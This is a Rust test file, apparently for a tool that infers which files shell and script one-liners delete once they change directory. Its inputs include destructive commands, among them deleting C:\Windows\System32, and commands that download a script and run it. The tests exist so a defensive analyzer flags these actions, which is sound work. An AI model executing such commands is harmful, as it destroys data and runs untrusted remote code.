//! Code that moves to another folder: what it says of files and programs from then on is said there.

use super::tests::told;

#[test]
fn files_lie_where_the_code_stands() {
    for (command, wanted) in [
        (
            "python3 -c \"import os; os.chdir('/srv'); os.remove('a')\"",
            "fs.delete /srv/a",
        ),
        (
            "python3 -c \"import os; os.chdir('..'); os.system('rm x')\"",
            "fs.delete /home/u/x",
        ),
        (
            "node -e \"process.chdir('/srv'); require('fs').unlinkSync('a')\"",
            "fs.delete /srv/a",
        ),
        ("perl -e 'chdir \"/srv\"; unlink \"a\"'", "fs.delete /srv/a"),
        (
            "ruby -e 'Dir.chdir(\"/srv\") { File.delete(\"a\") }'",
            "fs.delete /srv/a",
        ),
        (
            "php -r 'chdir(\"/srv\"); unlink(\"a\");'",
            "fs.delete /srv/a",
        ),
        (
            "lua -e 'require(\"lfs\").chdir(\"/srv\"); os.remove(\"a\")'",
            "fs.delete /srv/a",
        ),
        (
            "pwsh -c 'cd C:\\Windows; Remove-Item System32'",
            "fs.delete C:/Windows/System32",
        ),
        (
            "pwsh -c 'Push-Location /srv; Pop-Location; Remove-Item a'",
            "fs.delete /home/u/p/a",
        ),
        (
            "pwsh -c 'pushd /srv; cd b; popd; Remove-Item a'",
            "fs.delete /home/u/p/a",
        ),
        ("pwsh -c \"cd /srv; bash -c 'rm a'\"", "fs.delete /srv/a"),
        (
            "cmd /c \"cd /d C:\\Program Files & rd /s /q x\"",
            "fs.delete C:/Program Files/x",
        ),
        ("cmd /c \"cd.. & del x\"", "fs.delete /home/u/x"),
        ("cmd /c \"D: & del x\"", "fs.delete D:/x"),
        (
            "cmd /c \"pushd C:\\a & popd & del x\"",
            "fs.delete /home/u/p/x",
        ),
    ] {
        let actions = told(command);
        assert!(
            actions.iter().any(|action| action.starts_with(wanted)),
            "{command}: {actions:?}"
        );
    }
}

#[test]
fn a_program_is_run_where_its_options_say_and_the_code_stays() {
    let actions = told(
        "python3 -c \"import subprocess, os; subprocess.run(['rm', 'a'], cwd='/srv'); os.remove('b')\"",
    );
    assert!(
        actions
            .iter()
            .any(|action| action.starts_with("fs.delete /srv/a")),
        "{actions:?}"
    );
    assert!(
        actions
            .iter()
            .any(|action| action.starts_with("fs.delete /home/u/p/b")),
        "{actions:?}"
    );
    let actions = told("node -e \"require('child_process').execSync('rm a', {cwd: '/srv'})\"");
    assert!(
        actions
            .iter()
            .any(|action| action.starts_with("fs.delete /srv/a")),
        "{actions:?}"
    );
}

#[test]
fn a_move_that_may_not_happen_leaves_both_places() {
    let actions = told("pwsh -c 'if ($x) { cd /srv }; Remove-Item a'");
    for place in ["/srv/a", "/home/u/p/a"] {
        let wanted = format!("fs.delete {place}");
        assert!(
            actions.iter().any(|action| action.starts_with(&wanted)),
            "{actions:?}"
        );
    }
}

#[test]
fn nobody_knows_where_a_file_lies_in_a_folder_that_nobody_knows() {
    let actions = told("python3 -c \"import os, sys; os.chdir(sys.argv[1]); os.remove('a')\" x");
    assert!(
        actions
            .iter()
            .all(|action| !action.starts_with("fs.delete /home/u/p/a")),
        "{actions:?}"
    );
}

#[test]
fn what_was_fetched_into_a_folder_and_runs_there_is_code_from_there() {
    for command in [
        "python3 -c \"import os, urllib.request as u; os.chdir('/srv'); \
         u.urlretrieve('https://h.example/x', 'x.sh'); os.system('sh x.sh')\"",
        "pwsh -c 'cd /srv; iwr https://h.example/x -OutFile x.ps1; ./x.ps1'",
    ] {
        let actions = told(command);
        let runs = "exec.remote_code https://h.example/x";
        assert!(
            actions.iter().any(|action| action.starts_with(runs)),
            "{command}: {actions:?}"
        );
    }
}

#[test]
fn a_folder_below_the_longest_path_is_not_known() {
    let moves = "os.chdir('folder');".repeat(900);
    let actions = told(&format!("python3 -c \"import os; {moves} os.remove('a')\""));
    assert!(
        actions
            .iter()
            .all(|action| !action.contains("folder/folder")),
        "{actions:?}"
    );
}
